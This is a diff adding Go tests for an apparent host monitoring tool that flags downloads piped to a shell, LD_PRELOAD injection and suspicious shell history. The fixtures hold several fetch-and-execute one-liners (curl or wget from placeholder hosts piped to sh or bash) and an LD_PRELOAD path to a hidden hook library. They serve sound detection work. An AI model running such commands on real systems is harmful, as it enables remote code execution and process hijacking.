@@ -0,0 +1,237 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestCommandFindings(t *testing.T) {
+	tests := []struct {
+		cmd  string
+		env  map[string]string
+		want []string
+	}{
+		{"curl -fsSL https://get.example.sh | sh", nil, []string{"download piped to a shell"}},
+		{"wget -qO- http://10.0.0.5/x|sudo -E bash -s -- --force", nil, []string{"download piped to a shell"}},
+		{"curl -s https://x.example/i.sh | /bin/bash", nil, []string{"download piped to a shell"}},
+		{`bash -c "$(curl -fsSL https://x.example/install.sh)"`, nil, []string{"download piped to a shell"}},
+		{"bash <(curl -s https://x.example/i.sh)", nil, []string{"download piped to a shell"}},
+		{"curl -s https://api.example/status | jq .sha", nil, nil},
+		{"curl -o install.sh https://x.example/i.sh; shasum install.sh", nil, nil},
+		{"cat notes | bash-completion-check", nil, nil},
+		{"ls", map[string]string{"LD_PRELOAD": "/tmp/.x/hook.so"}, []string{"LD_PRELOAD=/tmp/.x/hook.so"}},
+	}
+	for _, tt := range tests {
+		if got := commandFindings(tt.cmd, tt.env); !slices.Equal(got, tt.want) {
+			t.Errorf("commandFindings(%q) = %q; want %q", tt.cmd, got, tt.want)
+		}
+	}
+}
+
+func TestExecSampler(t *testing.T) {
+	root := t.TempDir()
+	os.WriteFile(filepath.Join(root, "stat"), []byte("btime 1772352000\n"), 0644)
+	fakeProc(t, root, 1, "systemd", 0, 10, "/sbin/init\x00")
+	fakeProc(t, root, 2, "kthreadd", 0, 10, "")
+
+	boot, _ := bootTime(root)
+	s := &execSampler{root: root, boot: boot}
+	if got, err := s.scan(); err != nil || len(got) != 0 {
+		t.Fatalf("first scan = %+v, %v; want what's running ignored", got, err)
+	}
+
+	fakeProc(t, root, 4242, "sh", 1, 360000, "sh\x00-c\x00curl -s http://x.example/a | sh\x00")
+	os.WriteFile(filepath.Join(root, "4242", "environ"),
+		[]byte("HOME=/root\x00LD_PRELOAD=/tmp/hook.so\x00https_proxy=http://10.9.9.9:3128\x00PATH=/bin\x00"), 0644)
+	got, err := s.scan()
+	if err != nil || len(got) != 1 {
+		t.Fatalf("second scan = %+v, %v; want the new process", got, err)
+	}
+	e := got[0]
+	if e.PPID != 1 || !slices.Equal(e.Argv, []string{"sh", "-c", "curl -s http://x.example/a | sh"}) {
+		t.Errorf("event = %+v", e)
+	}
+	if len(e.Env) != 2 || e.Env["LD_PRELOAD"] != "/tmp/hook.so" || e.Env["https_proxy"] != "http://10.9.9.9:3128" {
+		t.Errorf("env = %v; want only the highlights", e.Env)
+	}
+
+	a := execAlert(e, e.Time)
+	if a.Fields["cmdline"] != "sh -c 'curl -s http://x.example/a | sh'" || a.Fields["env.LD_PRELOAD"] != "/tmp/hook.so" {
+		t.Errorf("alert fields = %v", a.Fields)
+	}
+	var findings []string
+	for _, s := range suspiciousAlerts(a, a.Fields["cmdline"], e.Env) {
+		findings = append(findings, s.Fields["finding"])
+	}
+	if !slices.Equal(findings, []string{"download piped to a shell", "LD_PRELOAD=/tmp/hook.so"}) {
+		t.Errorf("findings = %q", findings)
+	}
+
+	if got, _ := s.scan(); len(got) != 0 {
+		t.Errorf("third scan reported %+v again", got)
+	}
+}
+
+func TestPipeCorrelator(t *testing.T) {
+	t0 := time.Unix(1772352000, 0)
+	curl := execEvent{PID: 501, PPID: 500, Time: t0, Argv: []string{"curl", "-fsSL", "https://x.example/i.sh"}}
+	sh := execEvent{PID: 502, PPID: 500, Time: t0.Add(3 * time.Millisecond), Argv: []string{"sh"}, StdinPipe: true}
+
+	// Typed at a prompt, the two halves exec in either order
+	for _, order := range [][]execEvent{{curl, sh}, {sh, curl}} {
+		c := newPipeCorrelator()
+		if _, _, ok := c.match(order[0]); ok {
+			t.Fatal("matched on one exec")
+		}
+		download, shell, ok := c.match(order[1])
+		if !ok || download.PID != 501 || shell.PID != 502 {
+			t.Fatalf("match = %v, %v, %v; want curl piped to sh", download, shell, ok)
+		}
+		a := pipedDownloadAlert(download, shell)
+		if a.EventType != "SUSPICIOUS_COMMAND" || a.Fields["finding"] != "download piped to a shell" ||
+			a.Fields["pid"] != "502" || a.Fields["download_pid"] != "501" {
+			t.Errorf("alert = %+v", a)
+		}
+		if want := "download piped to a shell: curl -fsSL https://x.example/i.sh | sh"; a.Details != want {
+			t.Errorf("details = %q; want %q", a.Details, want)
+		}
+	}
+
+	other := func(e execEvent, edit func(*execEvent)) execEvent {
+		edit(&e)
+		return e
+	}
+	for name, e := range map[string]execEvent{
+		"another parent":    other(sh, func(e *execEvent) { e.PPID = 999 }),
+		"stdin not a pipe":  other(sh, func(e *execEvent) { e.StdinPipe = false }),
+		"shell with -c":     other(sh, func(e *execEvent) { e.Argv = []string{"bash", "-c", "echo hi"} }),
+		"shell with a file": other(sh, func(e *execEvent) { e.Argv = []string{"bash", "setup.sh"} }),
+		"not a shell":       other(sh, func(e *execEvent) { e.Argv = []string{"jq", ".sha"} }),
+		"long after":        other(sh, func(e *execEvent) { e.Time = t0.Add(time.Minute) }),
+	} {
+		c := newPipeCorrelator()
+		c.match(curl)
+		if _, _, ok := c.match(e); ok {
+			t.Errorf("%s: matched", name)
+		}
+	}
+
+	// sh -c "curl … | sh" was reported from its own command line
+	c := newPipeCorrelator()
+	c.match(execEvent{PID: 500, PPID: 1, Time: t0, Argv: []string{"sh", "-c", "curl -fsSL https://x.example/i.sh | sh"}})
+	c.match(curl)
+	if _, _, ok := c.match(sh); ok {
+		t.Error("children of a flagged pipeline reported again")
+	}
+}
+
+func TestReadStdinPipe(t *testing.T) {
+	dir := filepath.Join(t.TempDir(), "4242")
+	os.MkdirAll(filepath.Join(dir, "fd"), 0755)
+	if readStdinPipe(dir) {
+		t.Error("no fd/0 read as a pipe")
+	}
+	os.Symlink("pipe:[81723]", filepath.Join(dir, "fd", "0"))
+	if !readStdinPipe(dir) {
+		t.Error("stdin pipe not found")
+	}
+}
+
+func TestAuditAssembler(t *testing.T) {
+	asm := newAuditAssembler(t.TempDir())
+	records := []struct {
+		typ uint16
+		msg string
+	}{
+		// A record from another event in between, and one with no EXECVE
+		{auditSyscall, `audit(1772352000.100:41): arch=c000003e syscall=2 success=yes pid=77 ppid=1 uid=0 exe="/usr/sbin/cron"`},
+		{auditSyscall, `audit(1772352000.250:42): arch=c000003e syscall=59 success=yes exit=0 ppid=4100 pid=4242 auid=1000 uid=1000 comm="curl" exe="/usr/bin/curl" key=(null)`},
+		{auditEOE, `audit(1772352000.100:41): `},
+		// "-H" "X-Token: a b" has a space, so the kernel hex-encodes it
+		{auditExecve, `audit(1772352000.250:42): argc=4 a0="curl" a1="-H" a2=582D546F6B656E3A20612062 a3_len=12 a3[0]="http://" a3[1]="x.example"`},
+		{1307, `audit(1772352000.250:42): cwd="/tmp"`},
+		{auditEOE, "audit(1772352000.250:42): \x00"},
+	}
+	var got []execEvent
+	for _, r := range records {
+		if e, ok := asm.add(r.typ, r.msg); ok {
+			got = append(got, e)
+		}
+	}
+	if len(got) != 1 {
+		t.Fatalf("events = %+v; want the execve only", got)
+	}
+	e := got[0]
+	want := []string{"curl", "-H", "X-Token: a b", "http://x.example"}
+	if e.PID != 4242 || e.PPID != 4100 || e.UID != "1000" || e.Exe != "/usr/bin/curl" || !slices.Equal(e.Argv, want) {
+		t.Errorf("event = %+v; want argv %q", e, want)
+	}
+	if !e.Time.Equal(time.UnixMilli(1772352000250)) || !e.Start.IsZero() {
+		t.Errorf("time = %v, start = %v", e.Time, e.Start)
+	}
+	if len(asm.pending) != 0 {
+		t.Errorf("%d events left pending", len(asm.pending))
+	}
+}
+
+func TestHistoryTailer(t *testing.T) {
+	dir := t.TempDir()
+	alice := filepath.Join(dir, "alice", ".bash_history")
+	os.MkdirAll(filepath.Dir(alice), 0755)
+	os.WriteFile(alice, []byte("ls\nmake test\n"), 0600)
+	globs := []string{filepath.Join(dir, "*", ".bash_history")}
+	now := time.Unix(1772352000, 0)
+
+	h := newHistoryTailer()
+	if got := h.poll(globs, now); len(got) != 0 {
+		t.Fatalf("first poll = %+v; want old history skipped", got)
+	}
+
+	appendTo := func(path, s string) {
+		f, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY|os.O_CREATE, 0600)
+		if err != nil {
+			t.Fatal(err)
+		}
+		f.WriteString(s)
+		f.Close()
+	}
+	commands := func() []string {
+		var out []string
+		for _, c := range h.poll(globs, now) {
+			out = append(out, c.Command)
+		}
+		return out
+	}
+
+	// A line is only complete once its newline is written
+	appendTo(alice, "#1772351990\ncurl -s https://x.example/i.sh | bash\nvim no")
+	got := h.poll(globs, now)
+	if len(got) != 1 || got[0].Command != "curl -s https://x.example/i.sh | bash" || !got[0].Time.Equal(time.Unix(1772351990, 0)) {
+		t.Fatalf("poll = %+v", got)
+	}
+	appendTo(alice, "tes.txt\n")
+	if got := commands(); !slices.Equal(got, []string{"vim notes.txt"}) {
+		t.Errorf("poll after finishing the line = %q", got)
+	}
+
+	// New users' history is read from the start, a rewritten file again
+	bob := filepath.Join(dir, "bob", ".bash_history")
+	os.MkdirAll(filepath.Dir(bob), 0755)
+	appendTo(bob, "id\n")
+	os.WriteFile(alice, []byte("whoami\n"), 0600)
+	if got := commands(); !slices.Equal(got, []string{"whoami", "id"}) {
+		t.Errorf("poll = %q; want the rewritten and the new file", got)
+	}
+	if got := commands(); len(got) != 0 {
+		t.Errorf("nothing appended, poll = %q", got)
+	}
+
+	a := shellCommandAlert(shellCommand{File: bob, User: "bob", Command: "id", Time: now})
+	if a.EventType != "SHELL_COMMAND" || !strings.Contains(a.Details, "'bob' ran 'id'") {
+		t.Errorf("alert = %+v", a)
+	}
+}